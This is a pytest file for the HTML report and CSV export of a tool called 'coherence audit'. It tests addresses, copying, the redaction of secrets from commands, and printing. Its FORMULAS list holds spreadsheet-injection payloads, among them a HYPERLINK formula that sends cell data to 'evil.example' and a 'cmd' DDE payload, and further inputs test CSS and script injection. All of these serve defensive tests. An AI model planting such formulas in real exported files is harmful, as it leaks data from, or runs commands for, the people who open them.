"""What is passed on: an address of a sample, a copied command, the table as a file, the page on paper."""

import csv
import io
import json
import re
import time
from base64 import b64decode
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from places import RUNS as FIXTURES

from coherence.show.page.made import command, heading, page_heads

FINE = "The {} cat sat by the door and waited for the rain to stop, for it was late and the road was long."
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


@pytest.fixture(scope="module")
def long(tmp_path_factory: pytest.TempPathFactory, page_of: Callable[[Path, Path], Path]) -> Path:
    """A page of 150 samples, of which the table shows 50 at a time."""
    folder = tmp_path_factory.mktemp("long")
    rows = [{"step": 10 * n, "text": FINE.format(f"n{n}")} for n in range(150)]
    (folder / "dump.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    return page_of(folder / "dump.jsonl", folder / "page.html")


# Addresses


def test_a_click_on_a_step_writes_the_address_of_its_sample(browser: Any, report: Path) -> None:
    browser.show(report)
    browser.run("window.kinds = []; navigation.onnavigate = (event) => { kinds.push(event.navigationType); }")
    browser.click("#evidence .proof h3 a")
    assert browser.wait("return location.hash") == "#sample-500-0"
    assert browser.run("return document.activeElement.id") == "sample-500-0"
    browser.click("#rows tbody:nth-of-type(3) th a")
    assert browser.run("return location.hash") == "#sample-100-0"
    browser.run("goTo(0)")  # what a click on a point of the figure does
    assert browser.run("return location.hash") == "#sample-50-0"
    assert set(browser.run("return kinds")) == {"replace"}  # no entry in the history for each click
    assert browser.errors() == []


@pytest.mark.parametrize("step", [0, 700, 1490])
def test_a_page_that_is_opened_with_an_address_shows_that_sample(browser: Any, long: Path, step: int) -> None:
    browser.open("about:blank")
    browser.open(f"{long.as_uri()}#sample-{step}-0")
    browser.wait(f"return document.activeElement.id === 'sample-{step}-0'")
    top = browser.run("return document.activeElement.getBoundingClientRect().top")
    assert 0 <= top < 1000
    assert FINE.format(f"n{step // 10}") in browser.text(f"#sample-{step}-0")


def test_an_address_shows_its_sample_whatever_was_filtered(browser: Any, long: Path) -> None:
    browser.show(long)
    browser.click("#only-low")
    browser.one("#words").send_keys("nowhere")
    browser.run("location.hash = '#sample-1200-0'")
    browser.wait("return document.activeElement.id === 'sample-1200-0'")
    assert browser.one("#words").get_attribute("value") == ""
    assert not browser.one("#only-low").is_selected()


@pytest.mark.parametrize("address", ["#sample-7-0", "#sample-<b>-0", "#sample-constructor-0", "#rows", "#%"])
def test_an_address_of_no_sample_does_no_harm(browser: Any, long: Path, address: str) -> None:
    browser.open("about:blank")
    browser.show(long)
    browser.run("location.hash = arguments[0]", address)
    words = "This page does not show sample 7 #0." if address == "#sample-7-0" else ""
    browser.wait("return document.getElementById('missing').textContent === arguments[0]", words)
    assert browser.errors() == []


def test_a_live_page_finds_the_sample_of_its_address_once_it_has_read_so_far(
    browser: Any, tmp_path: Path, serve: Callable[..., str]
) -> None:
    folder = tmp_path / "exp7"
    folder.mkdir()
    scores = dict.fromkeys(("bigram", "trigram", "english", "character"), 80.0)
    rows = [
        {"format": 1, "step": n, "index": 0, "prompt": None, "text": FINE.format(n), "time": 1000.0 + n}
        | {"scores": scores, "low": False, "streak": 0}
        for n in range(90)
    ]
    text = "".join(json.dumps(row) + "\n" for row in rows)
    (folder / "samples.jsonl").write_text(text, encoding="utf-8")
    browser.open(serve(folder) + "#sample-80-0")
    browser.wait("return document.activeElement.id === 'sample-80-0'")
    assert browser.text("#missing") == ""


# Export and copying


def table(browser: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(browser.run("return asCsv(chosen()).toWellFormed()"), newline="")))


def test_the_table_is_saved_as_csv(browser: Any, long: Path, tmp_path: Path) -> None:
    browser.show(long)
    browser.command("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(tmp_path))
    browser.button("save as CSV")
    saved = tmp_path / "dump.jsonl-samples.csv"
    end = time.monotonic() + 20
    while not saved.exists():  # Chromium renames it when it is whole
        assert time.monotonic() < end, [*tmp_path.iterdir()]
        browser.run("return 0")
    assert browser.errors() == []
    heads, *rows = csv.reader(io.StringIO(saved.read_bytes().decode(), newline=""))
    assert heads == [
        *("step", "place", "bigram", "trigram", "english", "character", "tokens", "low", "streak", "loss"),
        *("prompt", "text", "left_out"),
    ]
    assert len(rows) == 150, "all of them, not the 50 on show"
    first = dict(zip(heads, rows[0], strict=True))
    assert (first["step"], first["low"], first["loss"]) == ("0", "false", "")
    assert first["text"] == FINE.format("n0")


def test_the_table_is_saved_as_it_is_filtered(browser: Any, long: Path) -> None:
    browser.show(long)
    browser.one("#words").send_keys("n12 ")
    assert [row[0] for row in table(browser)[1:]] == ["120"]


def test_no_cell_is_a_formula_and_any_text_comes_back(
    browser: Any, tmp_path: Path, page_of: Callable[[Path, Path], Path]
) -> None:
    texts = [*FORMULAS, 'so "it" is,\r\nand; so', "\u202e half \ud800 <script>", "'quoted"]
    rows = [{"step": n, "text": FINE.format(n)} for n in range(len(texts))]
    (tmp_path / "dump.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    browser.show(page_of(tmp_path / "dump.jsonl", tmp_path / "page.html"))
    browser.run(  # as JSON: the driver does not take a lone surrogate
        "const texts = JSON.parse(arguments[0]);"
        "run.samples.forEach((each, at) => { each.text = each.prompt = texts[at]; })",
        json.dumps(texts),
    )
    heads, *found = table(browser)
    for text, row in zip(texts, found, strict=True):
        cells = dict(zip(heads, row, strict=True))
        formula = text in FORMULAS
        assert (
            cells["text"] == cells["prompt"] == (f"'{text}" if formula else text.replace("\ud800", "\ufffd"))
        )
    browser.run("run.samples[0].loss = -0.5")
    assert table(browser)[1][heads.index("loss")] == "-0.5", "a number is a number"


def test_the_command_and_the_step_to_go_back_to_are_copied(browser: Any, report: Path) -> None:
    browser.show(report)
    browser.run("navigator.clipboard.writeText = async (words) => { window.copied = words; }")
    browser.click(".origin button")
    assert browser.wait("return window.copied") == browser.text(".origin code")
    browser.click("#facts .copy")
    browser.wait("return window.copied === '500'")
    assert browser.text("body > [role=status]") == "copied: 500"


def test_it_is_copied_too_where_the_clipboard_may_not_be_written_to(browser: Any, report: Path) -> None:
    browser.show(report)
    browser.run(
        "navigator.clipboard.writeText = () => Promise.reject(new Error('no'));"
        "document.execCommand = () => { window.copied = document.activeElement.value; };"
    )
    browser.click("#facts .copy")
    assert browser.wait("return window.copied") == "500"
    assert browser.run("return document.activeElement.matches('#facts .copy')")
    assert browser.all("textarea") == []


# Where it comes from


def test_the_top_says_of_which_run_it_is_when_by_which_version_and_command_it_was_made(
    browser: Any, report: Path
) -> None:
    browser.show(report)
    assert browser.text(".run") == "one-line"
    origin = browser.text(".origin")
    assert re.match(r"coherence \d\S* · \d{4}-\d\d-\d\d \d\d:\d\d[+-]\d\d:\d\d · coherence audit ", origin)
    assert "runs/one-line --html" in origin
    for folder in (FIXTURES, report.parent):
        assert str(folder) not in browser.text("header")


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        (["audit", "runs/exp7"], "coherence audit runs/exp7"),
        (["audit", "a b.jsonl", "--patience", "3"], "coherence audit 'a b.jsonl' --patience 3"),
        (["audit", "/home/me/runs/exp7"], "coherence audit runs/exp7"),
        (["audit", "/exp7/", "/"], "coherence audit exp7 ''"),
        (["audit", "x", "--html=/srv/out/p.html"], "coherence audit x --html=out/p.html"),
        (["audit", "C:\\Users\\me\\exp7"], "coherence audit me/exp7"),
        (["audit", "~/secret/runs/exp7"], "coherence audit runs/exp7"),
        (["audit", "s3://key:secret@box/a.jsonl?token=1#x"], "coherence audit s3://box/a.jsonl"),
        (
            ["audit", "--loss=https://me:pw@host/l.json?sig=1", "x"],
            "coherence audit --loss=https://host/l.json x",
        ),
        (["audit", "http://[half"], "coherence audit '…'"),
        (["audit", "-"], "coherence audit -"),
    ],
)
def test_a_command_shows_no_path_of_the_machine_and_no_secret(typed: list[str], shown: str) -> None:
    assert command(typed) == shown


def test_a_heading_is_the_last_part_of_a_path() -> None:
    paths = ("/srv/runs/exp7", "runs/exp7/", "exp7", "s3://key:secret@box/runs/exp7?sig=1", "/")
    assert [heading(path) for path in paths] == ["exp7", "exp7", "exp7", "exp7", "/"]


# On paper


def pdf_of(browser: Any) -> bytes:
    return b64decode(browser.command("Page.printToPDF", printBackground=True)["data"])


def test_printed_the_evidence_is_unfolded_and_controls_are_left_out(browser: Any, report: Path) -> None:
    browser.show(report)
    browser.command("Emulation.setEmulatedMedia", media="print")
    browser.run("dispatchEvent(new Event('beforeprint'))")
    folded = "return document.querySelectorAll('#evidence details:not([open])').length"
    assert browser.run(folded) == 0
    assert all(each.is_displayed() for each in browser.all("#evidence .answer"))
    seen = (
        "return [...document.querySelectorAll(arguments[0])].filter((each) => each.checkVisibility()).length"
    )
    assert browser.run(seen, ".copy, #pin, #moment, #pager button, [role=tooltip], .fold") == 0
    assert browser.run(seen, ".term button") > 0
    assert "15 of 36 low" in browser.text("#facts")
    assert (
        browser.run("return getComputedStyle(document.querySelector('#facts a')).textDecorationLine")
        == "none"
    )
    browser.run("dispatchEvent(new Event('afterprint'))")
    assert browser.run(folded) > 0
    browser.command("Emulation.setEmulatedMedia", media="")
    assert pdf_of(browser).startswith(b"%PDF")


def test_each_printed_page_is_headed_by_the_run_and_the_date(report: Path) -> None:
    style = re.search(r"<style[^>]*>(.*?)</style>", report.read_text(encoding="utf-8"), re.DOTALL)
    assert style
    assert '@top-left { content: "one-line" }' in style[1]
    assert re.search(r'@top-right \{ content: "\d{4}-\d\d-\d\d \d\d:\d\d\S+ · " counter\(page\)', style[1])


@pytest.mark.parametrize(
    "name", ['a"; } body { display: none } @page { x: "', "</style><script>", "a\\", "a\nb", "é"]
)
def test_a_name_stays_inside_the_head_of_a_printed_page(name: str) -> None:
    inside = page_heads(name, "now").split('content: "')[1].split('" } @top-right')[0]
    assert not set('"{}<>;\n').intersection(inside)
    assert re.sub(r"\\([0-9a-f]+) ", lambda found: chr(int(found[1], 16)), inside) == name
